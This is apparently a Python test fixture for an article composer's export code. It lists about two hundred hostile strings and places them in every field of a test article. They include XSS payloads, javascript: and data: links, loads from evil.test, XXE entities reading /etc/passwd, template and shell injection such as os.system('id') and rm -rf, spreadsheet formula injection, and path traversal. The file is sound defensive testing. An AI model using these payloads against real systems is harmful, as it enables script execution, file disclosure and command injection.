"""Two hundred strings that have broken pages, documents and file names, and an article that has them everywhere.

Each is meant to run code, load something, forge structure, leave a folder, or break a parser or a page. Whatever runs
sets ``window.pwned`` or asks ``evil.test`` for something; a test that opens an export watches for both. What a person
should still read of a string is ``as_read`` where it is printed as plain text (captions, credits, alternative texts)
and ``as_markdown`` where it is an article's own text.
"""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path

from composer.article.markdown import plain_text
from composer.article.model import Article, Placement, Section, Slot
from image_db.metadata.record import ImageRecord
from retrieval.candidates import Candidate
from tests.composer.article_samples import picture, said

RUN = "window.pwned=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<<script>script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=http://evil.test/a.js></script>",
    "<script src=//evil.test/a.js></script>",
    f"<script type=module>{RUN}</script>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</article></body></html><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f'"/><script>{RUN}</script>',
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f'" onerror="{RUN}" x="',
    f"' onmouseover='{RUN}",
    f'x" onfocus="{RUN}" autofocus tabindex="1',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a onmouseover={RUN}>over</a>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<p onpointerenter={RUN}>enter</p>",
    f"<select onfocus={RUN} autofocus>",
    f"<xss contenteditable onfocus={RUN} autofocus>",
    f"`onerror={RUN}`",
    f"{{onerror={RUN}}}",
)
EMBEDS = (
    "<iframe src=http://evil.test/></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<object data=http://evil.test/a.swf></object>",
    "<embed src=http://evil.test/a.swf>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/><button>send</button></form>",
    "<frameset><frame src=http://evil.test/></frameset>",
    "<img src=http://evil.test/pixel.gif>",
    "<image href=http://evil.test/pixel.gif>",
    "<svg><image href=http://evil.test/a.png /></svg>",
    "<svg><use href=http://evil.test/a.svg#x /></svg>",
    "<audio autoplay src=http://evil.test/a.mp3>",
    "<portal src=http://evil.test/>",
    "<table background=http://evil.test/a.png>",
)
MARKDOWN_LINKS = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{RUN})",
    f"[click](javascript&colon;{RUN})",
    f"[click](<javascript:{RUN}>)",
    f"[click]( javascript:{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](javascript://evil.test/%0a{RUN})",
    f"[click](vbscript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"[click](data:text/html,<script>{RUN}</script>)",
    "[click](file:///etc/passwd)",
    "[click](//evil.test/)",
    "[click](\\\\evil.test\\share)",
    "[click](blob:http://evil.test/1)",
    "[click](intent://evil.test#Intent;end)",
    "[click](ms-word:ofe|u|http://evil.test/a.docx)",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n\n[a]",
    f'[click](http://ok.test/ "x" onclick="{RUN}")',
    f'[click](http://ok.test/"onmouseover="{RUN})',
    f"[cl](http://ok.test)[ick](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    "![x](http://evil.test/pixel.gif)",
    "[![x](http://evil.test/pixel.gif)](http://evil.test/)",
    f'![" onerror={RUN} x="](x.png)',
    f'![x](x.png "\\" onerror={RUN}")',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](file:///etc/passwd)",
    "![x](../../../../etc/passwd)",
)
MARKDOWN_STRUCTURE = (
    "# forged heading",
    "Setext\n======",
    "> forged quote",
    "- forged item",
    "1. forged item",
    "10) forged item",
    "***",
    "---\ntitle: forged\n---",
    "```html\n<script>window.pwned=1</script>\n```",
    "`` ` `` unclosed ```",
    "~~~\nnever closed",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | c |",
    "**bold __nested *and ~~crossed** over__ it*~~",
    "*" * 60,
    "[" * 60 + "x" + "]" * 60,
    "> " * 60 + "deep",
    "- " * 30 + "deep",
    "> - " * 90 + "very deep",
    "\\*not emphasis\\* \\[not a link\\]",
    "line with two spaces  \nand a break",
    "trailing backslash \\",
    "text[^1] and\n\n[^1]: a footnote",
    ":::warning\nforged\n:::",
    "[[wiki link]] ==mark== ^sup^ ~sub~ $x^2$",
    "&lt;b&gt; &amp;lt; &#60;script&#62;",
)
ENTITIES = (
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#x3C;script&#x3E;window.pwned=1&#x3C;/script&#x3E;",
    "&amp;lt;script&amp;gt;",
    "&#0; &#xD800; &#x110000; &#xFFFE;",
    "&NotAnEntity; &copy &copy;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    '<?xml version="1.0"?><?xml-stylesheet href="http://evil.test/a.xsl"?>',
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "]]>",
    "<!-- unclosed comment",
    '<xi:include href="file:///etc/passwd" parse="text"/>',
    "%e; &e; &#x26;e;",
    "<w:t>forged run</w:t></w:r></w:p>",
    '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
    '<item href="forged.xhtml"/></manifest>',
)
STYLES = (
    "<style>body{display:none}</style>",
    '<p style="background:url(http://evil.test/a.png)">x</p>',
    "<style>@import 'http://evil.test/a.css';</style>",
    'x" style="position:fixed;inset:0;background:red',
    "</style><style>*{background:url(http://evil.test/)}",
    '<div style="width:expression(window.pwned=1)">',
    "}*{display:none}/*",
    "red;background:url(javascript:window.pwned=1)",
)
TEMPLATES = (
    "{{7*7}} {{constructor.constructor('window.pwned=1')()}}",
    "${7*7} ${window.pwned=1}",
    "<%= 7*7 %> <% window.pwned=1 %>",
    "{% import os %}{{ os.system('id') }}",
    "#{7*7} #{`id`}",
    "%(name)s %s %n %x {0} {title} {0.__class__}",
    '#eval("1") #read("/etc/passwd") #import "@preview/a:1.0.0"',
    "#set page(width: 1pt) $ sum $ #panic() @cite <label>",
    "\\input{/etc/passwd} \\write18{id} \\end{document}",
    "= forged heading in Typst\n/ term: forged",
    "$(id) `id` ; rm -rf / | cat && id",
    "__import__('os').system('id')",
)
SHEETS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.test/","click")',
    'a,b;"c"\td',
    '"quoted, cell"',
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "file.jpg\x00.exe",
    "CON",
    "nul.txt",
    ".htaccess",
    "~/.ssh/id_rsa",
    "....//....//etc",
    "%2e%2e%2f%2e%2e%2fetc",
    'a/b\\c:d*e?f"g<h>i|j',
    "name\nwith\nlines.jpg",
    "photo.jpg.html",
    "-rf",
    "\u202egpj.exe",
)
UNICODE = (
    "\u202eoverridden\u202c text",
    "unclosed \u202e override",
    "\u2066isolated\u2069 \u2067never closed",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "soft\u00adhy\u00adphens",
    "e" + "\u0301" * 40 + " stacked marks",
    "Ｆｕｌｌｗｉｄｔｈ ＜script＞",
    "ﬁ ligature, ½ fraction, ㍿ square",
    "null \x00 byte",
    "bell \x07 escape \x1b[31mred\x1b[0m backspace \x08",
    "\x9b31m one-byte escape \x85 next line \x90",
    "\u2028line\u2029paragraph",
    "lone \ud800 high and \udc00 low surrogates",
    "\ufffe\uffff\U0001fffe noncharacters",
    "\ufffd replacement",
    "private \ue000 use",
    "👩‍👩‍👧‍👦 family, 🏳️‍🌈 flag, 👍🏽 tone",
    "🦤🐔🌾 emoji",
    "العربية مكتوبة من اليمين إلى اليسار",
    "עברית נכתבת מימין לשמאל",
    "שלום hello مرحبا 123 mixed",
    "如何养好一只宠物：狗、猫和鸟。",
    "日本語と한국어",
    "हिन्दी ไทย ქართული",
    "İstanbul ıssız ẞ ß ſ K",
    "𝒳𝟙 mathematical 𠮷 beyond the plane",
)
LENGTHS = (
    "W" * 600,
    "http://ok.test/" + "long/" * 60,
    "无" * 300,
    " ".join(["word"] * 400),
    " \t \u3000 surrounded by white space \u00a0 \n ",
    "a\r\nb\rc\nd",
)

HOSTILE: tuple[str, ...] = (
    SCRIPTS + HANDLERS + EMBEDS + MARKDOWN_LINKS + MARKDOWN_STRUCTURE + ENTITIES + STYLES + TEMPLATES + SHEETS + PATHS
) + (UNICODE + LENGTHS)

# Strings for the field that holds a picture's web address.
ADDRESSES: tuple[str, ...] = (
    f"javascript:{RUN}",
    f" JavaScript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "//evil.test/",
    "ftp://evil.test/",
    "\\\\evil.test\\share",
    'http://ok.test/"onmouseover="' + RUN,
    "http://ok.test/'><script>" + RUN + "</script>",
    "http://ok.test/) [x](javascript:" + RUN,
    "http://ok.test/ _blank\n\n# forged",
    "https://ok.test/\u202egpj.html",
    "https://[::1",
    "http://ok.test/\ud800",
    "https://ok.test/?a=1&b=2#%zz",
)


def as_read(text: str) -> str:
    """What is read of a string printed as plain text: one line; what no format can hold is gone or U+FFFD.

    The normalisation that exports promise: lone surrogates, NUL and noncharacters become U+FFFD, control characters
    go, white space becomes single spaces.
    """
    kept = []
    for char in text:
        code = ord(char)
        if 0xD800 <= code <= 0xDFFF or code == 0 or code & 0xFFFE == 0xFFFE or 0xFDD0 <= code <= 0xFDEF:
            kept.append("\ufffd")
        elif unicodedata.category(char) != "Cc" or char in "\t\n\r\x85":
            kept.append(char)
    return " ".join("".join(kept).split())


def as_markdown(text: str) -> str:
    """What is read of a string that is an article's own Markdown: the words its rendering shows."""
    without_controls = "".join(c for c in text if unicodedata.category(c) != "Cc" or c in "\t\n\r\x85\x00")
    clean = re.sub("[\ud800-\udfff\x00]", "\ufffd", without_controls)
    return as_read(plain_text(clean))


def hostile_article(folder: Path, texts: tuple[str, ...] = HOSTILE) -> Article:
    """One section and one picture a string, with the string in every field a person or a library may fill."""
    image = picture(folder, "hens.jpg", "goldenrod", (96, 64))
    sections, placements = [], []
    for index, text in enumerate(texts):
        address = ADDRESSES[index % len(ADDRESSES)]
        record = ImageRecord(
            id=image.id,
            path=image.path,
            width_px=image.width_px,
            height_px=image.height_px,
            caption=text,
            alt=text,
            tags=(text,),
            author=text,
            license=text,
            source_url=address,
            captions=((text[:8], text),),
        )
        sections.append(Section(text))
        placements.append(
            Placement(
                slot=Slot(index, text, text),
                candidates=(Candidate(record, 0.5, 0.5, 0.5, None, said(text)),),
                chosen=record,
                reason=said(text),
                caption=text,
                alt=text,
                credit=text,
            )
        )
    return Article("Hostile corpus", "en", tuple(sections), tuple(placements), provenance={"library": texts[0]})
